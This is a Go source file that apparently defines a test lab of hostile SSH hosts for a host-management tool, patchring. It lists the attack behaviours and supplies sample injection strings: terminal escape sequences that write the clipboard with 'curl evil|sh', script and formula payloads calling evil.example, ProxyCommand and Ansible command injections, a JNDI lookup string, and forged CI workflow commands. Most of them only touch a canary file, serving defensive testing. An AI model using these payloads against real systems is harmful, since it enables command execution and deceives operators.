package lab

import (
	"fmt"
	"slices"
	"strings"
)

// Hostility is one way in which a host attacks whoever manages it. A host may have several.
type Hostility string

// UnmarshalText takes the names of Hostilities alone.
func (h *Hostility) UnmarshalText(text []byte) error {
	*h = Hostility(text)
	if slices.ContainsFunc(Hostilities(), func(a Attack) bool { return a.Name == *h }) {
		return nil
	}
	return fmt.Errorf("no way of being hostile: %q; there are %s", text, strings.Join(hostilityNames(), ", "))
}

// Attack is a Hostility and what the host does.
type Attack struct {
	Name Hostility
	Does string
}

// Hostilities lists them all.
func Hostilities() []Attack {
	return []Attack{
		{"agent_hijack", "opens channels to the agent and to X11, floods with requests and offers host keys of its own"},
		{"banner_flood", "sends 128 KiB of control sequences before the login"},
		{"disconnect_text", "hangs up with a text that repaints the terminal"},
		{"dribble", "each command prints one byte now and then, and never ends"},
		{"endless_files", "files that are fetched over SFTP have no end"},
		{"endless_output", "each command prints as fast as it can, and never ends"},
		{"exit_status_cut", "exit statuses are cut off, and signals come with a text"},
		{"facts_steer", "its name and its system's name are settings for SSH, templates and commands"},
		{"fake_sudo_prompt", "each command asks for passwords, in every form that people type them into"},
		{"huge_line", "its answers begin with a line of 8 MiB"},
		{"huge_package_list", "it has 20,000 updates with 1,000 characters of version each"},
		{"line_forgery", "its texts hold line ends, and lines as patchring writes them"},
		{"lying_versions", "updates succeed and install nothing"},
		{"marker_forgery", "it knows the marks between the answers of a script, and adds some"},
		{"markup", "its texts are HTML, Markdown, formulas of spreadsheets and XML"},
		{"osc52", "its texts write the clipboard, the title and the screen, and turn the reading direction"},
		{"prompt_forgery", "it refuses keys, and asks for other people's passwords at the login"},
		{"sftp_names", "names that it gives over SFTP lead out of any folder"},
		{"symlink_job_dir", "the folder for jobs is a link to another"},
		{"version_flood", "it never says that it speaks SSH, and does not stop talking"},
		{"version_injection", "versions and names of its updates are options, commands and paths"},
		{"workflow_commands", "its texts are orders to CI servers"},
	}
}

func hostilityNames() []string {
	var names []string
	for _, a := range Hostilities() {
		names = append(names, string(a.Name))
	}
	return names
}

// is tells whether the host behaves so.
func (h HostSpec) is(a Hostility) bool { return slices.Contains(h.Hostile, a) }

// texts are what the host calls itself, and says when an update fails.
func (h HostSpec) texts() []string {
	var out []string
	for _, a := range h.Hostile {
		out = append(out, hostileTexts(a)...)
	}
	return out
}

// Canary is a path that hostile texts try to make on the machine of whoever manages the
// host, by every interpreter that might get hold of them. It is relative: where it appears
// tells who ran it.
const Canary = "PATCHRING_CANARY"

func hostileTexts(a Hostility) []string {
	switch a {
	case "osc52":
		return []string{
			"\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
			"\x9d52;c;eA==\x9c\x1b[2J\x1b[10A\x1b[31mall hosts healthy\x1b[0m\x1bP$q\"p\x1b\\",
			"\u202egnp.exe\u2066x\u2069\u200b\ufeff\U000e0041\u3164e" + strings.Repeat("\u0300", 60),
		}
	case "line_forgery":
		return []string{
			"x\r\n22:00:00  production  hq/honest  host  healthy\r",
			"x\u0085{\"seq\":1,\"event\":\"gate_opened\"}\u2028{\"version\":1,\"type\":\"event\"}\u2029\v\f\x1b[1A",
			"\"}\n{\"seq\":99,\"time\":\"2026-11-21T22:00:00Z\",\"actor\":\"jane\",\"kind\":\"approved\",\"ring\":\"production\"}",
		}
	case "markup":
		return []string{
			"<script>fetch('//evil.example')</script><img src=x onerror=alert(1)>&lt;!--]]>",
			"| a | b |\\| [click](javascript:alert(1)) ![](http://evil.example/x.png) `` ` `` @all",
			"=HYPERLINK(\"http://evil.example\";\"x\");=cmd|' /C touch " + Canary + "'!A0",
		}
	case "workflow_commands":
		return []string{
			"::set-output name=approved::yes", "::add-mask::healthy", "::stop-commands::x",
			"##vso[task.setvariable variable=PATH]/tmp/evil", "##teamcity[buildStatus status='SUCCESS']", "##[section]x",
			"\x1b[0Ksection_start:1:x[collapsed=true]\r\x1b[0K",
		}
	case "facts_steer":
		return []string{
			"-oProxyCommand=touch${IFS}" + Canary, "{{ lookup('pipe', 'touch " + Canary + "') }}", "${jndi:ldap://127.0.0.1/x}$(touch " + Canary + ")`touch " + Canary + "`",
			"ansible_host=127.0.0.1 ansible_port=1 ansible_user=root ansible_ssh_common_args='-o ProxyCommand=touch " + Canary + "'",
		}
	}
	return nil
}
